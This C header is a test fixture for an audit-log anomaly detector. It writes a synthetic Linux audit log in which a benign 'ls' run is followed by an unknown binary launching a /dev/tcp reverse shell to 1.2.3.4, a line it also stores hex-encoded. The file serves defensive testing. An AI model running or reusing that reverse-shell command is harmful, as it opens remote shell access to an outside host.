/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * An audit log that makes two alerts when replayed with --mode learn
 * --learn-min 5 --learn-stable 5: a benign exec learned at t, the same one
 * monitored at t+20 s, then at t+40 s (2026-01-01T00:00:40Z) an unknown
 * binary with a /dev/tcp reverse shell: reverse-shell-devtcp (critical)
 * and new_exec (high).
 */
#ifndef TESTS_TOOLS_ALERT_LOG_H
#define TESTS_TOOLS_ALERT_LOG_H

#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>

/* A benign exec learned, the same one monitored, then a reverse shell from an unknown binary. */
#define EXEC(T, S, EXE, COMM, ARGS, TITLE)                                                       \
	"type=SYSCALL msg=audit(" T ":" S "): arch=c000003e syscall=59 success=yes exit=0 a0=1 "    \
	"a1=2 a2=3 a3=0 items=2 ppid=99 pid=" S " auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 "     \
	"egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"" COMM "\" exe=\"" EXE "\" key=\"k\"\n"         \
	"type=EXECVE msg=audit(" T ":" S "): " ARGS "\n"                                            \
	"type=PROCTITLE msg=audit(" T ":" S "): proctitle=" TITLE "\n"                              \
	"type=EOE msg=audit(" T ":" S "): \n"
static const char log_text[] __attribute__((unused)) =
	EXEC("1767225600.000", "1", "/usr/bin/ls", "ls", "argc=1 a0=\"ls\"", "6C73")
	EXEC("1767225620.000", "2", "/usr/bin/ls", "ls", "argc=1 a0=\"ls\"", "6C73")
	EXEC("1767225640.000", "3", "/tmp/.x/m1", "sh",
	     "argc=3 a0=\"sh\" a1=\"-c\" a2=\"bash -i >& /dev/tcp/1.2.3.4/1 0>&1\"",
	     "7368002D630062617368202D69203E26202F6465762F7463702F312E322E332E342F3120303E2631");

/* A fresh folder (template like "/tmp/x-XXXXXX", rewritten) holding log_text as audit.log. */
static inline void alert_log_dir(char *dir)
{
	char p[128];
	FILE *f;

	cr_assert_not_null(mkdtemp(dir));
	snprintf(p, sizeof(p), "%s/audit.log", dir);
	f = fopen(p, "w");
	cr_assert_not_null(f);
	cr_assert_geq(fputs(log_text, f), 0);
	cr_assert_eq(fclose(f), 0);
}

#endif
